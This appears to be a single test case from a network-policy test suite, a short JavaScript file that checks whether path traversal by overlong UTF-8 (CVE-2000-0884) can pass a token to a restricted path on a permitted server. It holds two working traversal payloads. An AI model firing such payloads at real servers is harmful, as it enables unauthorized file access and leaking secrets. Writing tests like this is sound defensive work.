// technique: goes up from the permitted path by overlong UTF-8
// source: CVE-2000-0884; RFC 3629, section 3
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { get, say, TOKEN } from './wire.mjs';

for (const request of [get(`/public/%c0%ae%c0%ae/private/${TOKEN}`), get(`/public/..%c0%af/private/${TOKEN}`)])
  await say(process.env.ALLOWED_HTTP, [request]);
